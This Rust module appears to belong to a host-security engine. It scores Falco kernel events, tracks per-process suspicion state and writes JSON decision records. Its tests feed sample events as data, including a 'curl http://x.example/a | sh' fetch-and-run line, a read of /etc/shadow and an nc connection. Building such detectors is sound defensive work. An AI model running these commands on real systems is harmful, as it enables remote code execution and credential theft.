//! The output record (SPEC §8) and the stateful bridge that produces it.

use std::borrow::Cow;
use std::sync::Arc;

use crate::clock::Timestamp;
use crate::enforcement::{EnforcementPlan, EnforcementPlanner, PlannerConfig};
use crate::event::KernelEvent;
use crate::falco::{self, FalcoDoc, LineError, MappingOptions, RawLine};
use crate::gate::{Assessment, CellState, EventFeatures, Gate, KernelAction, Resolution};
use crate::integrity;
use crate::jsonw::{push_str, ObjectWriter};
use crate::membrane::{ScanHits, ScanScratch};
use crate::memory::AntibodyTable;
use crate::pystr::{push_py_round4, py_float_repr};

/// One decided event.
#[derive(Debug, Clone)]
pub struct DecisionRecord {
    pub event: KernelEvent,
    pub process_key: String,
    pub features: EventFeatures,
    pub assessment: Assessment,
    pub resolution: Resolution,
    /// Most notes are fixed texts; only counts and policy names are built.
    pub notes: Vec<Cow<'static, str>>,
    pub enforcement: Option<EnforcementPlan>,
}

impl DecisionRecord {
    pub fn kernel_action(&self) -> KernelAction {
        self.resolution.kernel_action
    }

    /// The record's written parts, borrowed.
    pub fn as_record_ref(&self) -> RecordRef<'_> {
        RecordRef {
            event: &self.event,
            assessment: &self.assessment,
            resolution: &self.resolution,
            notes: &self.notes,
            enforcement: self.enforcement.as_ref(),
        }
    }

    /// Write the record as one compact JSON object (no newline), keys in the
    /// SPEC §8 order; `include_event` adds the normalized `kernel_event`.
    pub fn write_json(&self, out: &mut String, include_event: bool) {
        self.as_record_ref().write_json(out, include_event);
    }

    pub fn to_json(&self) -> String {
        let mut out = String::with_capacity(1024);
        self.write_json(&mut out, false);
        out
    }
}

/// What a record writes, borrowed from wherever its parts are: a
/// [`DecisionRecord`], or a prepared event and the tail built for it
/// ([`record_tail`]), so that a replay writes records without moving each
/// event (several hundred bytes) into a record and out again.
#[derive(Debug, Clone, Copy)]
pub struct RecordRef<'a> {
    pub event: &'a KernelEvent,
    pub assessment: &'a Assessment,
    pub resolution: &'a Resolution,
    pub notes: &'a [Cow<'static, str>],
    pub enforcement: Option<&'a EnforcementPlan>,
}

impl RecordRef<'_> {
    /// [`DecisionRecord::write_json`].
    ///
    /// This runs once per event, so it is written as fixed fragments (each
    /// key with its punctuation) between the values rather than through an
    /// [`ObjectWriter`]; the order of the statements is the key order. The
    /// enum names (`ALLOW`, `HEALTHY`, …) are plain ASCII and need no escape.
    pub fn write_json(&self, out: &mut String, include_event: bool) {
        let e = self.event;
        let r = self.resolution;
        out.reserve(RECORD_BYTES_TYPICAL);
        out.push_str("{\"host\":");
        push_str(out, &e.host);
        out.push_str(",\"pid\":");
        e.pid.push_to(out);
        out.push_str(",\"process_name\":");
        push_str(out, &e.process_name);
        out.push_str(",\"operation\":");
        push_str(out, &e.operation);
        out.push_str(",\"target\":");
        push_str(out, &e.target);
        out.push_str(",\"decision\":\"");
        out.push_str(self.assessment.decision.as_str());
        out.push_str("\",\"kernel_action\":\"");
        out.push_str(r.kernel_action.as_str());
        out.push_str("\",\"cell_state\":\"");
        out.push_str(r.cell_state.as_str());
        out.push_str("\",\"suspicion\":");
        push_py_round4(self.assessment.suspicion, out);
        out.push_str(",\"antibody_load_prev\":");
        push_py_round4(r.antibody_prev, out);
        out.push_str(",\"antibody_load_now\":");
        push_py_round4(r.antibody_now, out);
        out.push_str(",\"membrane_stress\":");
        push_py_round4(r.membrane_stress, out);
        out.push_str(",\"notes\":[");
        for (i, note) in self.notes.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            match fixed_note_json(note) {
                Some(json) => out.push_str(json),
                None => push_str(out, note),
            }
        }
        out.push(']');
        if include_event {
            out.push_str(",\"kernel_event\":");
            write_event_json(e, out);
        }
        if let Some(plan) = self.enforcement {
            out.push_str(",\"enforcement\":");
            plan.write_json(out);
        }
        out.push('}');
    }
}

/// Room reserved up front for one record: most are about 660 bytes with an
/// ALLOW plan, so they are written without growing the buffer midway.
pub const RECORD_BYTES_TYPICAL: usize = 768;

fn write_event_json(e: &KernelEvent, out: &mut String) {
    let mut o = ObjectWriter::new(out);
    o.str("host", &e.host)
        .str("process_name", &e.process_name)
        .str("parent_process", &e.parent_process)
        .str("command_line", &e.command_line)
        .str("operation", &e.operation)
        .str("target", &e.target);
    e.pid.push_to(o.key("pid"));
    o.bool("signer_trusted", e.signer_trusted);
    match &e.hash_sha256 {
        Some(h) => o.str("hash_sha256", h),
        None => o.raw("hash_sha256", "null"),
    };
    if e.geometry_norm.is_finite() {
        o.f64("geometry_norm", e.geometry_norm);
    } else {
        // JSON has no NaN/Infinity; keep Python's spelling as text.
        let mut text = String::new();
        py_float_repr(e.geometry_norm, &mut text);
        o.str("geometry_norm", &text);
    }
    o.finish();
}

/// The notes, in the reference's order (SPEC §6), into `notes` (cleared
/// first, so one buffer serves a whole batch).
pub fn build_notes_into(
    gate: &Gate,
    event: &KernelEvent,
    features: &EventFeatures,
    resolution: &Resolution,
    notes: &mut Vec<Cow<'static, str>>,
) {
    notes.clear();
    push_scan_reasons(features.scan, notes);
    // Empty (and unallocated) for most events.
    let mut integrity_notes = Vec::new();
    integrity::push_notes(
        &features.integrity,
        &event.operation,
        &gate.policy().integrity,
        &mut integrity_notes,
    );
    if !integrity_notes.is_empty() {
        notes.extend(integrity_notes.into_iter().map(Cow::Owned));
    }
    notes.push(Cow::Borrowed(cell_state_note(resolution.cell_state)));
    notes.push(Cow::Borrowed(
        if resolution.kernel_action == KernelAction::Allow {
            "kernel path clear"
        } else {
            "enemy friction elevated at kernel gate"
        },
    ));
}

/// The JSON form of a note that is one of the fixed texts most records carry
/// (see [`crate::match_fixed_json`]); `None` for any other note.
fn fixed_note_json(note: &str) -> Option<&'static str> {
    crate::match_fixed_json!(note;
        "clean profile",
        "kernel path clear",
        "immune cell state=HEALTHY",
        "unsigned or untrusted signer",
        "missing sha256",
        "enemy friction elevated at kernel gate",
        "immune cell state=PRIMED",
        "immune cell state=INFLAMED",
        "immune cell state=NECROTIC",
        "invalid sha256 length",
    )
}

/// `immune cell state={state}`, as a fixed text per state.
fn cell_state_note(state: CellState) -> &'static str {
    match state {
        CellState::Healthy => "immune cell state=HEALTHY",
        CellState::Primed => "immune cell state=PRIMED",
        CellState::Inflamed => "immune cell state=INFLAMED",
        CellState::Necrotic => "immune cell state=NECROTIC",
    }
}

fn push_scan_reasons(hits: ScanHits, notes: &mut Vec<Cow<'static, str>>) {
    if hits.prompt > 0 {
        notes.push(counted_note("prompt-injection signatures=", hits.prompt));
    }
    if hits.malware > 0 {
        notes.push(counted_note("malware signatures=", hits.malware));
    }
    if hits.links > 0 {
        notes.push(counted_note("external-links=", hits.links));
    }
    if hits.prompt == 0 && hits.malware == 0 && hits.links == 0 {
        notes.push(Cow::Borrowed("clean profile"));
    }
}

/// `{label}{count}`.
fn counted_note(label: &str, count: u32) -> Cow<'static, str> {
    let mut buffer = itoa::Buffer::new();
    let count = buffer.format(count);
    let mut note = String::with_capacity(label.len() + count.len());
    note.push_str(label);
    note.push_str(count);
    Cow::Owned(note)
}

/// What became of one input line.
#[derive(Debug)]
pub enum LineOutcome {
    /// Blank after stripping: skipped, not counted.
    Blank,
    Error(LineError),
    Decided(Box<DecisionRecord>),
}

/// An event with everything that does not depend on per-process state: the
/// parallelizable part of deciding.
#[derive(Debug, Clone)]
pub struct Prepared {
    pub event: KernelEvent,
    pub process_key: String,
    pub features: EventFeatures,
    pub assessment: Assessment,
}

impl Prepared {
    /// A box for the prepare stage to fill: every field is overwritten
    /// before the event leaves that stage.
    pub(crate) fn unfilled() -> Prepared {
        Prepared {
            event: KernelEvent::default(),
            process_key: String::new(),
            features: EventFeatures {
                scan: ScanHits::default(),
                integrity: integrity::IntegrityFeatures {
                    operation: None,
                    untrusted_signer: false,
                    hash: integrity::HashState::Missing,
                    sensitive_matches: 0,
                    pair_matches: 0,
                    n_pair_matches: 0,
                },
                observed: 0.0,
            },
            assessment: Assessment {
                scan_risk: 0.0,
                integrity_risk: 0.0,
                suspicion: 0.0,
                geometry: 0.0,
                decision: crate::turnstile::Decision::Allow,
            },
        }
    }
}

/// A line after the stateless stage.
#[derive(Debug)]
pub enum PreparedLine {
    Blank,
    Error(LineError),
    Event(Box<Prepared>),
}

/// The stateless stage: strip, parse, map, scan and score one raw line.
pub fn prepare_line(
    gate: &Gate,
    mapping: &MappingOptions,
    raw: &[u8],
    scratch: &mut ScanScratch,
) -> PreparedLine {
    let mapped = read_line(raw, scratch.key_order())
        .map(|doc| doc.map(|doc| map_into_spare(&doc, mapping, scratch)));
    prepare_mapped(gate, mapped, scratch)
}

/// [`prepare_line`] over a batch of lines (each `Ok(raw line)`, or the error
/// the caller already found), in order, one stage at a time: every line is
/// read, then every document mapped, then every event scanned and scored.
/// Same results as line by line; running each stage's code over the whole
/// batch keeps it in the instruction cache (line by line, reading, mapping
/// and scanning evict each other: callgrind's simulated instruction-cache
/// misses fall from ~240 to ~15 per event, and replay runs 5–10% faster).
pub fn prepare_lines<'a>(
    gate: &Gate,
    mapping: &MappingOptions,
    lines: impl Iterator<Item = Result<&'a [u8], LineError>>,
    scratch: &mut ScanScratch,
) -> Vec<PreparedLine> {
    // Each document is read and mapped where it lies in `docs` (it is about
    // half a kilobyte; moving one copies it); `read` holds each line's
    // outcome, its document's index when it has one.
    let mut docs: Vec<FalcoDoc<'a>> = Vec::with_capacity(lines.size_hint().0);
    let order = scratch.key_order();
    let read: Vec<Result<Option<usize>, LineError>> = lines
        .map(|line| match falco::classify_line(line?)? {
            RawLine::Blank => Ok(None),
            RawLine::Text(text) => {
                docs.push(FalcoDoc::empty(text));
                let doc = docs.last_mut().expect("just pushed");
                match doc.fill(order) {
                    Ok(()) => Ok(Some(docs.len() - 1)),
                    Err(e) => {
                        docs.pop();
                        Err(e)
                    }
                }
            }
        })
        .collect();
    let mapped: Vec<MappedLine> = read
        .into_iter()
        .map(|line| Ok(line?.map(|i| map_into_spare(&docs[i], mapping, scratch))))
        .collect();
    mapped
        .into_iter()
        .map(|line| prepare_mapped(gate, line, scratch))
        .collect()
}

/// A line read and mapped: a box whose event is mapped (its process key,
/// features and assessment are still a spent event's), `None` when blank.
type MappedLine = Result<Option<Box<Prepared>>, LineError>;

/// A raw line stripped and read; `None` when blank.
fn read_line<'a>(
    raw: &'a [u8],
    order: &mut falco::KeyOrder,
) -> Result<Option<FalcoDoc<'a>>, LineError> {
    match falco::classify_line(raw)? {
        RawLine::Blank => Ok(None),
        RawLine::Text(text) => FalcoDoc::read_with(text, order).map(Some),
    }
}

/// `doc` mapped into a spent prepared event's box (a new one when none is
/// left).
fn map_into_spare(
    doc: &FalcoDoc<'_>,
    mapping: &MappingOptions,
    scratch: &mut ScanScratch,
) -> Box<Prepared> {
    let mut prepared = scratch.spare_prepared();
    falco::map_event_into(doc, mapping, &mut prepared.event);
    prepared
}

/// The scan-and-score step of [`prepare_line`] for a mapped line, in place.
fn prepare_mapped(gate: &Gate, line: MappedLine, scratch: &mut ScanScratch) -> PreparedLine {
    match line {
        Err(e) => PreparedLine::Error(e),
        Ok(None) => PreparedLine::Blank,
        Ok(Some(mut prepared)) => {
            let Prepared {
                event,
                process_key,
                features,
                assessment,
            } = &mut *prepared;
            event.process_key_into(process_key);
            *features = gate.features(event, scratch);
            *assessment = gate.assess(features);
            PreparedLine::Event(prepared)
        }
    }
}

/// The stateless stage for an already-mapped event.
pub fn prepare_event(gate: &Gate, event: KernelEvent, scratch: &mut ScanScratch) -> Prepared {
    let process_key = event.process_key();
    let features = gate.features(&event, scratch);
    let assessment = gate.assess(&features);
    Prepared {
        event,
        process_key,
        features,
        assessment,
    }
}

/// The per-process state's verdict on one event.
#[derive(Debug, Clone, PartialEq)]
pub struct Advance {
    pub resolution: Resolution,
    /// False when the enforcement cooldown suppressed this event's action.
    pub admitted: bool,
}

/// The stateful bridge: a gate, the per-process table and (optionally) an
/// enforcement planner. Events must be fed in input order.
#[derive(Debug)]
pub struct Bridge {
    gate: Arc<Gate>,
    table: AntibodyTable,
    planner: Option<EnforcementPlanner>,
    mapping: MappingOptions,
    scratch: ScanScratch,
}

impl Bridge {
    /// `planner: None` decides without planning enforcement.
    pub fn new(gate: Arc<Gate>, mapping: MappingOptions, planner: Option<PlannerConfig>) -> Bridge {
        let capacity = gate.policy().state_capacity();
        Bridge {
            table: AntibodyTable::new(capacity),
            planner: planner.map(EnforcementPlanner::new),
            gate,
            mapping,
            scratch: ScanScratch::default(),
        }
    }

    pub fn gate(&self) -> &Arc<Gate> {
        &self.gate
    }

    pub fn table(&self) -> &AntibodyTable {
        &self.table
    }

    pub fn table_mut(&mut self) -> &mut AntibodyTable {
        &mut self.table
    }

    pub fn mapping(&self) -> &MappingOptions {
        &self.mapping
    }

    pub fn planner(&self) -> Option<&EnforcementPlanner> {
        self.planner.as_ref()
    }

    /// Swap in a new policy (the agent's reload); state is kept.
    pub fn set_gate(&mut self, gate: Arc<Gate>) {
        self.table.set_capacity(gate.policy().state_capacity());
        self.mapping.real_network_fields = gate.policy().real_network_fields;
        self.gate = gate;
    }

    /// Decide one raw line; `now` gives the cooldown clock for the event.
    pub fn decide_line(
        &mut self,
        raw: &[u8],
        now: impl FnOnce(&KernelEvent) -> Timestamp,
    ) -> LineOutcome {
        match prepare_line(&self.gate, &self.mapping, raw, &mut self.scratch) {
            PreparedLine::Blank => LineOutcome::Blank,
            PreparedLine::Error(e) => LineOutcome::Error(e),
            PreparedLine::Event(prepared) => {
                let now = now(&prepared.event);
                LineOutcome::Decided(Box::new(self.decide_prepared(*prepared, now)))
            }
        }
    }

    /// Decide one event at time `now`.
    pub fn decide(&mut self, event: KernelEvent, now: Timestamp) -> DecisionRecord {
        let prepared = prepare_event(&self.gate, event, &mut self.scratch);
        self.decide_prepared(prepared, now)
    }

    /// Both remaining stages for a prepared event.
    pub fn decide_prepared(&mut self, prepared: Prepared, now: Timestamp) -> DecisionRecord {
        let advance = self.advance(&prepared, now);
        self.finish(prepared, advance)
    }

    /// The stateful stage, cheap and strictly in input order: previous load,
    /// turnstile, new load, cooldown.
    pub fn advance(&mut self, prepared: &Prepared, now: Timestamp) -> Advance {
        let key = prepared.process_key.as_str();
        let gate = &self.gate;
        let resolution = self.table.update(key, |prev| {
            let resolution = gate.resolve(&prepared.assessment, prev.unwrap_or(0.0));
            (resolution.antibody_now, resolution)
        });
        let admitted = match &mut self.planner {
            Some(planner) => planner.admit(key, resolution.kernel_action, now),
            None => true,
        };
        Advance {
            resolution,
            admitted,
        }
    }

    /// The stateless tail: notes and the enforcement plan. Safe to run in
    /// parallel with other events' tails.
    pub fn finish(&self, prepared: Prepared, advance: Advance) -> DecisionRecord {
        finish_record(&self.gate, self.planner.as_ref(), prepared, advance)
    }
}

/// [`Bridge::finish`] without a bridge (for parallel callers holding parts).
pub fn finish_record(
    gate: &Gate,
    planner: Option<&EnforcementPlanner>,
    prepared: Prepared,
    advance: Advance,
) -> DecisionRecord {
    let mut notes = Vec::with_capacity(6);
    let enforcement = record_tail(gate, planner, &prepared, &advance, &mut notes);
    let Prepared {
        event,
        process_key,
        features,
        assessment,
    } = prepared;
    DecisionRecord {
        event,
        process_key,
        features,
        assessment,
        resolution: advance.resolution,
        notes,
        enforcement,
    }
}

/// What a record adds to its prepared event: its notes (into `notes`,
/// cleared first) and, with a planner, its enforcement plan. With
/// [`RecordRef`], a record is written straight from its parts.
pub fn record_tail(
    gate: &Gate,
    planner: Option<&EnforcementPlanner>,
    prepared: &Prepared,
    advance: &Advance,
    notes: &mut Vec<Cow<'static, str>>,
) -> Option<EnforcementPlan> {
    build_notes_into(
        gate,
        &prepared.event,
        &prepared.features,
        &advance.resolution,
        notes,
    );
    planner.map(|p| {
        p.build_plan(
            &prepared.event,
            &prepared.process_key,
            &prepared.assessment,
            &advance.resolution,
            advance.admitted,
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A batch prepared stage by stage gives what each of its lines gives
    /// alone, errors and blanks in place, also when mapped into the spent
    /// events of an earlier batch.
    #[test]
    fn a_batch_prepares_as_its_lines_do_one_by_one() {
        let gate = Gate::reference();
        let mapping = MappingOptions::default();
        let lines: Vec<Result<&[u8], LineError>> = vec![
            Ok(br#"{"hostname":"h1","output_fields":{"evt.type":"execve","proc.pid":12,"proc.name":"bash","proc.cmdline":"curl http://x.example/a | sh","file.sha256":"ab"}}"#),
            Ok(b"   "),
            Ok(b"{\"output_fields\": {\"evt.type\": \"open\", \"fd.name\": \"/etc/shadow\", \"proc.name\": \"cat\"}}"),
            Ok(b"\xff\xfe"),
            Err(LineError::TooLong { bytes: 9_999_999 }),
            Ok(b"[1, 2]"),
            Ok(b"{\"output_fields\": {"),
            Ok(br#"{"output_fields":{"evt.type":"connect","fd.sip":"10.0.0.1","fd.sport":80,"fd.dip":"1.1.1.1","proc.name":"nc"}}"#),
            Ok(b""),
        ];
        // Each line with a scratch of its own: no member names guessed
        // from the other lines, as the batch's are.
        let expected: Vec<String> = lines
            .iter()
            .map(|line| match line {
                Ok(raw) => {
                    let mut alone = ScanScratch::default();
                    format!("{:?}", prepare_line(&gate, &mapping, raw, &mut alone))
                }
                Err(e) => format!("{:?}", PreparedLine::Error(e.clone())),
            })
            .collect();
        assert_eq!(
            expected.iter().filter(|p| p.starts_with("Event")).count(),
            3
        );
        let mut scratch = ScanScratch::default();
        for round in 0..3 {
            let batch = prepare_lines(&gate, &mapping, lines.iter().cloned(), &mut scratch);
            let got: Vec<String> = batch.iter().map(|p| format!("{p:?}")).collect();
            assert_eq!(got, expected, "round {round}");
            // Spent events back, as replay hands back its records, in
            // reverse so that each line maps into another line's event.
            for line in batch.into_iter().rev() {
                if let PreparedLine::Event(prepared) = line {
                    scratch.recycle_prepared(prepared);
                }
            }
        }
    }

    #[test]
    fn fixed_note_forms_are_what_push_str_writes() {
        let mut fixed = vec![
            "clean profile",
            "kernel path clear",
            "enemy friction elevated at kernel gate",
            "unsigned or untrusted signer",
            "missing sha256",
            "invalid sha256 length",
        ];
        fixed.extend(CellState::ALL.map(cell_state_note));
        for note in fixed {
            let mut want = String::new();
            push_str(&mut want, note);
            assert_eq!(fixed_note_json(note), Some(want.as_str()), "{note}");
        }
        assert_eq!(fixed_note_json("clean profile "), None);
        assert_eq!(fixed_note_json("external-links=2"), None);
    }

    #[test]
    fn fixed_notes_are_the_formatted_ones() {
        for state in CellState::ALL {
            assert_eq!(cell_state_note(state), format!("immune cell state={state}"));
        }
        for count in [1, 9, 10, 12345, u32::MAX] {
            assert_eq!(
                counted_note("external-links=", count),
                format!("external-links={count}")
            );
        }
    }
}
